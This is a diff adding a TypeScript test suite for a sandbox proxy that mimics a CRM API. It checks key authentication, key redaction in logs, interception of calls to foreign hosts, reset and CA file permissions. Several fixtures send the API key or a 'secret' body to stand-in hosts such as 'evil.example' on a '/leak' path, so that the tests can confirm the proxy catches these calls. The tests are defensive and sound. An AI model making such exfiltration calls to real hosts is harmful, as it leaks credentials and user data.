@@ -1,0 +1,123 @@
+import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { connect } from 'node:net';
+import http from 'node:http';
+import os from 'node:os';
+import path from 'node:path';
+import { ensureTestCa } from '../../sandbox';
+import { requestLine } from '../../sandbox/requestLine';
+import { blockPath, contactPath, startUnderTest, type SandboxUnderTest } from './sandboxUnderTest';
+
+const lines: string[] = [];
+let under: SandboxUnderTest;
+
+beforeAll(async () => {
+	under = await startUnderTest({ apiKey: 'a-key-of-its-own', log: (line) => lines.push(line) });
+});
+afterEach(() => under.sandbox.reset());
+afterAll(() => under.sandbox.stop());
+
+describe('the key', () => {
+	it.each([
+		['a wrong one', 'Bearer wrong'],
+		['two blanks', 'Bearer  a-key-of-its-own'],
+		['another scheme', 'Basic a-key-of-its-own'],
+		['none', ''],
+	])('%s is answered 401', async (_what, authorization) => {
+		const { status, json } = await under.send({ path: `${contactPath}/101`, headers: { authorization } });
+		expect(status).toBe(401);
+		expect(json).toMatchObject({ error: { code: 'ERROR_UNAUTHORIZED' } });
+		expect(under.sandbox.journal).toMatchObject([{ status: 401, carriedOut: false }]);
+	});
+
+	it('is refused 403 where its permission was taken away, and only there', async () => {
+		under.sandbox.permissions.delete('blockedVisitor');
+		expect(await under.send({ path: blockPath })).toMatchObject({ status: 403, json: { error: { code: 'ERROR_UNAUTHORIZED_ACCESS' } } });
+		expect((await under.send({ path: `${contactPath}/101` })).status).toBe(200);
+	});
+
+	it('is in no line of the log', async () => {
+		lines.length = 0;
+		await under.send({ method: 'PUT', path: `${contactPath}/101`, body: { fields: { city: 'a-key-of-its-own' } } });
+		await under.send({ path: '/leak?key=a-key-of-its-own', host: 'evil.example' });
+		expect(lines).toHaveLength(2);
+		expect(lines[0]).toMatch(/^\d\d:\d\d:\d\d\.\d{3} {2}PUT {5}\/api\/v1\/crm\/objects\/contact\/101 {2}200 {2}\{"fields":\{"city":"\*\*\*"\}\}$/);
+		expect(lines.join('\n')).not.toContain('a-key-of-its-own');
+	});
+});
+
+it('shortens a long body in the log', () => {
+	const line = requestLine({ at: 0, method: 'POST', path: '/p', query: { a: ['1', '2'] }, headers: {}, body: 'y'.repeat(500), status: 200, carriedOut: true });
+	expect(line).toMatch(/^00:00:00\.000 {2}POST {4}\/p\?a=1&a=2 {2}200 {2}"y{159}…$/);
+});
+
+describe('another host', () => {
+	it.each(['evil.example', 'acme.acquire.io.evil.example', 'other.acquire.io'])('%s gets nothing, and is noted', async (host) => {
+		const { status, text } = await under.send({ method: 'POST', path: '/leak?a=1', host, body: { secret: 1 } });
+		expect([status, text]).toEqual([200, '{}']);
+		expect(under.sandbox.journal).toEqual([]);
+		expect(under.sandbox.foreignRequests).toMatchObject([
+			{ method: 'POST', url: `https://${host}/leak?a=1`, body: '{"secret":1}', headers: { authorization: 'Bearer a-key-of-its-own' } },
+		]);
+	});
+
+	it('includes the own one without TLS', async () => {
+		const { port } = new URL(under.sandbox.proxyUrl);
+		const status = await new Promise((resolve, reject) => {
+			http.get({ port, host: '127.0.0.1', path: 'http://acme.acquire.io/api/v1/crm/objects/contact/101' }, (answer) => resolve(answer.resume().statusCode)).on('error', reject);
+		});
+		expect(status).toBe(200);
+		expect(under.sandbox.journal).toEqual([]);
+		expect(under.sandbox.foreignRequests).toMatchObject([{ method: 'GET', url: 'http://acme.acquire.io/api/v1/crm/objects/contact/101' }]);
+	});
+
+	it('answers what a test gave it, until the reset', async () => {
+		under.sandbox.answerForeign('shop.example', ({ url }) => ({ status: 201, headers: { 'x-a': 'b' }, body: url }));
+		expect(await under.send({ path: '/x', host: 'shop.example' })).toMatchObject({ status: 201, text: 'https://shop.example/x', headers: { 'x-a': 'b' } });
+		under.sandbox.reset();
+		expect((await under.send({ path: '/x', host: 'shop.example' })).text).toBe('{}');
+	});
+});
+
+it('reset brings everything back', async () => {
+	const { sandbox, send } = under;
+	const before = sandbox.store.contacts();
+	await send({ method: 'DELETE', path: `${contactPath}/101` });
+	sandbox.setDialect({ missingRecord: 404 });
+	sandbox.permissions.clear();
+	sandbox.faults.next({ fault: { kind: 'html', status: 500 }, times: 9 });
+	sandbox.reset();
+	expect(sandbox.store.contacts()).toEqual(before);
+	expect(sandbox.journal).toEqual([]);
+	expect(sandbox.dialect.missingRecord).toBe(400);
+	expect((await send({ path: `${contactPath}/101` })).status).toBe(200);
+});
+
+it('gives copies, so that a test cannot change the data by accident', () => {
+	const copy = under.sandbox.store.contact(101);
+	if (copy) copy.fields.city = 'Elsewhere';
+	expect(under.sandbox.store.contact(101)?.fields.city).toBe('Springfield');
+});
+
+it('stop breaks off late answers and closes the port', async () => {
+	const { sandbox, send } = await startUnderTest({ latencyMs: 60_000 });
+	const waiting = send({ path: `${contactPath}/101` });
+	while (sandbox.journal.length === 0) await new Promise((resolve) => setTimeout(resolve, 10));
+	await Promise.all([expect(waiting).rejects.toThrow(), sandbox.stop()]);
+	const port = Number(new URL(sandbox.proxyUrl).port);
+	const refused = await new Promise((resolve) => connect(port, '127.0.0.1').on('connect', () => resolve('open')).on('error', (reason) => resolve(Reflect.get(reason, 'code'))));
+	expect(refused).toBe('ECONNREFUSED');
+});
+
+it('makes the test CA once, also when asked twice at the same time, for its owner only', async () => {
+	const folder = mkdtempSync(path.join(os.tmpdir(), 'test-ca-'));
+	try {
+		const caFolder = path.join(folder, 'ca');
+		const [first, second] = await Promise.all([ensureTestCa(caFolder), ensureTestCa(caFolder)]);
+		const third = await ensureTestCa(caFolder);
+		expect([second, third]).toEqual([first, first]);
+		expect(readFileSync(first.certificateFile, 'utf8')).toBe(first.cert);
+		for (const file of ['ca.pem', 'ca.key']) expect(statSync(path.join(caFolder, file)).mode & 0o777).toBe(0o600);
+	} finally {
+		rmSync(folder, { recursive: true });
+	}
+});
